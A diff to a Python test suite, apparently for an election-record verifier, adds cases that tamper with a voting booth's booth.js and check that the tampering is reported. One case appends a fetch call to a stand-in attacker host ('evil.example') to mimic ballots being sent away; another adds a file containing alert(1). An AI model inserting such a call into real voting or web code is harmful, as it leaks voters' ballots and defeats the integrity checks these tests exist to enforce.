@@ -364,6 +364,23 @@ def t_unexpected_top_level(built: Built, record: Path) -> None:
     (record / "extra.txt").write_text("hello\n", encoding="utf-8")
 
 
+BOOTH_JS = Path("booth_code/static/js/booth.js")
+
+
+def t_booth_file_changed(built: Built, record: Path) -> None:
+    """The record's booth.js sends every ballot elsewhere: not the code the manifest sealed."""
+    path = record / BOOTH_JS
+    path.write_bytes(path.read_bytes() + b"\nroot.fetch('https://evil.example/', {});\n")
+
+
+def t_booth_file_removed(built: Built, record: Path) -> None:
+    (record / BOOTH_JS).unlink()
+
+
+def t_booth_file_added(built: Built, record: Path) -> None:
+    (record / "booth_code" / "static" / "js" / "extra.js").write_text("alert(1)\n", "utf-8")
+
+
 def t_tally_sum_edited(built: Built, record: Path) -> None:
     def change(t: dict[str, Any]) -> None:
         t["encrypted"][0] = t["encrypted"][1]
@@ -698,6 +715,9 @@ CASES = [
          says="there is no runoff"),
     case(t_runoff_round_removed, "V8 V9", says="no round 2"),
     case(t_unexpected_top_level, "V1", says="unexpected"),
+    case(t_booth_file_changed, "V1", says="not the code the commission sealed"),
+    case(t_booth_file_removed, "V1", says="missing"),
+    case(t_booth_file_added, "V1", says="does not name"),
     case(t_tally_sum_edited, "V5 V6 V9", says="not the sum"),
     case(t_tally_final_checkpoint, "V5 V9", says="final_checkpoint"),
     case(t_partial_changed, "V6 V9", says="proof"),
